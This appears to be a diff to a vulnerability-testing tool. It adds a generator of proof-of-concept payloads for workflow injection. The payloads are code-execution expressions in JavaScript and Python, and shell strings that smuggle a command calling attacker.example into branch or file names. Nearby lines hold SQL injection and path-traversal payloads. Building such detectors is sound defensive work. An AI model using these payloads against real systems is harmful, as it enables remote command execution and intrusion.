@@ -182,6 +182,27 @@ const xpath: Fitting = (context) => {
     : supports('1 or 1=1', 'unquoted in the expression');
 };
 
+const workflow: Fitting = (context, candidate) => {
+  const before = context?.before ?? '';
+  const { language, carrier } = candidate.details;
+  const quote = openQuote(before, `'"\``);
+  const inside = quote ? `inside ${quoteName(quote)} of the script` : 'unquoted in the script';
+  if (language === 'javascript') {
+    const expression = `require('child_process').execSync('id')`;
+    if (quote === '`') return supports(`\${${expression}}`, inside);
+    return supports(quote ? `${quote} + ${expression} + ${quote}` : expression, inside);
+  }
+  if (language === 'python') {
+    const expression = `__import__('os').system('id')`;
+    return supports(quote ? `${quote} + str(${expression}) + ${quote}` : expression, inside);
+  }
+  const end = quote ?? '';
+  // Names of branches and files have no blanks.
+  return carrier === 'branch'
+    ? supports(`${end};{curl,attacker.example};#`, inside)
+    : supports(`${end}; curl https://attacker.example/ #`, inside);
+};
+
 /** The checker of regular expressions has made the text already. */
 const regex: Fitting = (context, { details }) => {
   const attack = { value: '', expression: details.attack ?? "''" };
@@ -200,6 +221,7 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'sql-injection': sql,
   'command-injection': command,
   'code-injection': code,
+  'workflow-injection': workflow,
   'path-traversal': path,
   'file-inclusion': path,
   'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
